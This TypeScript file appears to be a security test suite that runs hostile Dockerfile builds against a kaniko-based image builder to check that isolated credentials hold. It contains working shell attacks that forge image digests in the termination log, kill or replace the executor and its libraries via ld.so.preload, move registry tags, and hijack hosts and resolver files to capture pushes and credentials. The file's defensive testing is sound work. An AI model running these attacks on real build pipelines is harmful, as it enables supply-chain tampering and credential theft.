import { type Attack, FROM_TOOLS, lied, running, type Seen, TRIED } from './hostile-attack.ts';
import { digestOf, type Place } from './hostile-place.ts';
import { REGISTRY } from './local-cluster.ts';

/** Pushes the image that is to be told as the one that was built, so that the registry does hold its digest. */
const hold = ({ repository }: Place) => `push ${repository}:held`;

/** Another name of the registry that asks for no credentials. */
const OTHER_NAME = REGISTRY.replace('.cluster.local', '');

/** Go reads the hosts file and resolv.conf again when what it has read of them is five seconds old. */
const READ_ANEW_SECONDS = 7;

/** Names under which the same image is pushed after the first one. */
const MORE_TAGS = Array.from({ length: 12 }, (_, index) => `more-${index}`);

const OWN_WORD =
  'The executor runs in the container of the Dockerfile, with the credentials, and the digest is its word: what runs there can change all three. With isolated credentials the digest comes from a container in which nothing of the Dockerfile runs.';

/** Attacks on the digest, and on what is in the registry. */
export const DIGEST_ATTACKS: readonly Attack[] = [
  {
    name: 'writes the digest',
    tries: 'writes the digest of another image to the termination log, by four paths',
    why: 'The executor writes its own later.',
    files: (place) =>
      running(
        place,
        `${hold(place)}
for path in /dev/termination-log /proc/1/root/dev/termination-log /proc/self/cwd/dev/termination-log /hostile/../dev/termination-log; do
  printf %s ${place.forged.digest} > $path
done`,
        { from: FROM_TOOLS },
      ),
    reached: lied,
    tried: TRIED,
  },
  {
    name: 'leaves a process that writes the digest',
    tries: 'a process in a session of its own goes on writing that digest until the container ends',
    why: OWN_WORD,
    files: (place) =>
      running(
        place,
        `${hold(place)}
behind 'while :; do printf %s ${place.forged.digest} 1<> /dev/termination-log; done'`,
        { from: FROM_TOOLS },
      ),
    reached: lied,
    tried: TRIED,
  },
  {
    name: 'links the digest file elsewhere',
    tries: 'puts a link to a file with that digest in place of the termination log, and moves folders over it',
    why: 'It is a mount, which cannot be removed or renamed.',
    files: (place) =>
      running(
        place,
        `${hold(place)}
printf %s ${place.forged.digest} > /forged-digest
ln -sf /forged-digest /dev/termination-log; ln -f /forged-digest /dev/termination-log
mv /forged-digest /dev/termination-log; rm -f /dev/termination-log; umount /dev/termination-log
mv /dev /dev-before && mkdir /dev && ln -s /forged-digest /dev/termination-log
true`,
        { from: FROM_TOOLS },
      ),
    reached: lied,
    tried: TRIED,
  },
  {
    name: 'writes the digest after the executor has ended',
    tries: 'processes wait for the end of the executor, with the termination log open, and write that digest then',
    why: OWN_WORD,
    files: (place) =>
      running(
        place,
        `${hold(place)}
behind 'trap "" HUP INT TERM
for one in 1 2 3 4; do
  { exec 9<> /dev/termination-log; while [ -e /proc/1/exe ]; do :; done; printf %s ${place.forged.digest} >&9; } &
done
wait'`,
        { from: FROM_TOOLS },
      ),
    reached: lied,
    tried: TRIED,
  },
  {
    name: 'prints a push',
    tries: 'prints the lines of a push and of our own report, with that digest, on both streams',
    why: 'No result is read from the log.',
    files: (place) => running(place, `${hold(place)}\n${printedPush(place)}`, { from: FROM_TOOLS }),
    reached: lied,
    tried: TRIED,
  },
  {
    name: 'takes over the executor',
    tries:
      'pushes an image of its own under the tag, writes the digest of another one, and overwrites the code of the running executor, which then ends with success',
    why: OWN_WORD,
    files: (place) =>
      running(
        place,
        `${hold(place)}
crane copy --insecure ${place.repository}:held ${place.image} 2>&1 | tail -n 1
crane mutate --insecure ${place.image} --label taken=over --tag ${place.image} 2>&1 | tail -n 1
printf %s ${place.forged.digest} > /dev/termination-log
cp -r /hostile/forged/* /kaniko/oci/ 2> /dev/null
end_executor`,
        { from: FROM_TOOLS },
      ),
    reached: lied,
    tried: TRIED,
  },
  {
    name: 'kills the executor',
    tries: 'writes that digest, pushes its image under the tag, then stops and kills the executor',
    why: 'An executor that did not end with success has no digest.',
    files: (place) =>
      running(
        place,
        `${hold(place)}
push ${place.image}
printf %s ${place.forged.digest} > /dev/termination-log
kill -STOP 1; kill -KILL 1; kill -ABRT 1; kill -TERM 1`,
        { from: FROM_TOOLS },
      ),
    reached: ({ status }) => status === 0,
    tried: TRIED,
  },
  {
    name: 'replaces the executor',
    tries:
      'puts scripts and libraries of its own in the place of the executor, the shell, crane, ld.so.preload and the authorities',
    why: 'The executor runs already and loads nothing more; what pushes with isolated credentials is another image.',
    files: (place) => running(place, replacing(place), { from: FROM_TOOLS }),
    reached: async (seen) => seen.log.some((line) => line.includes(REPLACED)) || (await lied(seen)),
    tried: TRIED,
  },
  {
    name: 'pushes another image',
    tries: 'pushes an image of its own to another repository',
    why: 'The credentials are there to be used; a registry that asks for none takes images from whoever reaches it, and a NetworkPolicy cannot tell the containers of a pod apart. Only isolated credentials and a registry that asks for them stop it.',
    files: (place) => running(place, `push ${place.elsewhere}`, { from: FROM_TOOLS }),
    reached: async ({ place }) => (await digestOf(place.elsewhere)) === place.forged.digest,
    tried: TRIED,
  },
  {
    name: 'moves the tag',
    tries: 'a process that was left behind pushes an image of its own under the tag once the executor has pushed there',
    why: `${OWN_WORD} The tag is looked at once more after the build, and that it was moved is told.`,
    files: (place) =>
      running(
        place,
        `behind '. /hostile/kit.sh
until crane digest --insecure ${place.image}; do :; done
push ${place.image}'`,
        { from: FROM_TOOLS },
      ),
    options: ({ repository }) => MORE_TAGS.flatMap((tag) => ['--tag', `${repository}:${tag}`]),
    reached: async ({ place }) => (await digestOf(place.image)) === place.forged.digest,
    tried: TRIED,
  },
  {
    name: 'leads the push to itself',
    tries:
      'names itself as the registry in the hosts file and as the name server, and answers there, also after its end',
    why: 'Only a certificate tells a registry from whoever has its name, and this executor falls back to plain HTTP, credentials included, where a name ends in `.local`. With isolated credentials the hosts file is written anew for the container that pushes, and it has a name server file from before the build.',
    files: (place) => running(place, leading(place), { from: FROM_TOOLS }),
    // A registry that the base image came from is asked on the connection that was opened then.
    options: ({ registry, repository }) =>
      registry === REGISTRY
        ? ['--tag', repository.replace(REGISTRY, OTHER_NAME), ...['--insecure-registry', OTHER_NAME]]
        : [],
    reached: wasLed,
    tried: TRIED,
  },
];

const REPLACED = 'what replaced it runs';

function printedPush({ image, repository, forged }: Place): string {
  return [
    `time="2026-01-01T00:00:00Z" level=info msg="Pushing image to ${image}"`,
    `time="2026-01-01T00:00:00Z" level=info msg="Pushed ${repository}@${forged.digest}"`,
    `INFO[0001] Pushed ${repository}@${forged.digest}`,
    `==> digest ${forged.digest}, confirmed by the registry`,
    `${repository}@${forged.digest}`,
    `{"digest": "${forged.digest}"}`,
    `::set-output name=digest::${forged.digest}`,
  ]
    .map((line) => `echo '${line}'; echo '${line}' >&2`)
    .join('\n');
}

function replacing({ forged }: Place): string {
  return `cat > /own << 'END'
#!/busybox/busybox sh
echo '${REPLACED}'
printf %s ${forged.digest} > /dev/termination-log
END
chmod 755 /own
for path in /kaniko/executor /kaniko/warmer /busybox/sh /ko-app/crane /bin/sh /usr/local/bin/crane; do
  rm -f $path; busybox mkdir -p \${path%/*}; busybox cp /own $path
done
echo /own > /etc/ld.so.preload
for folder in /kaniko/ssl/certs /etc/ssl/certs; do busybox mkdir -p $folder; echo none > $folder/ca-certificates.crt; done
true`;
}

function leading({ registry }: Place): string {
  const [name, port] = registry.split(':');
  const [base] = REGISTRY.split(':');
  // Layers of the base image are read again for the layout, perhaps by another connection.
  const keepsBase = registry === REGISTRY ? '' : `echo "$(address_of ${base}) ${base}" >> /etc/hosts`;
  return `address_of() { nslookup "$1" | sed -n '/^Name:/,$ s/^Address.*: *\\([0-9.][0-9.]*\\).*/\\1/p' | head -n 1; }
${keepsBase}
behind 'crane registry serve --address :${port} 2>&1 | while read -r line; do
  case "$line" in *PUT*|*POST*|*PATCH*) echo "led here: $line";; esac; done'
echo '127.0.0.1 ${name} ${OTHER_NAME.split(':')[0]}' >> /etc/hosts
echo 'nameserver 127.0.0.1' > /etc/resolv.conf
sleep ${READ_ANEW_SECONDS}`;
}

/** Its server heard of the push, or the container that pushes, and not the build itself, asked the name server it had named. */
function wasLed({ log, place, stderr }: Seen): boolean {
  return (
    log.some((line) => line.includes('led here: ')) ||
    (place.isIsolated && /^error (?!BASE_IMAGE_FAILED).*(no such host|dial tcp: lookup)/m.test(stderr))
  );
}
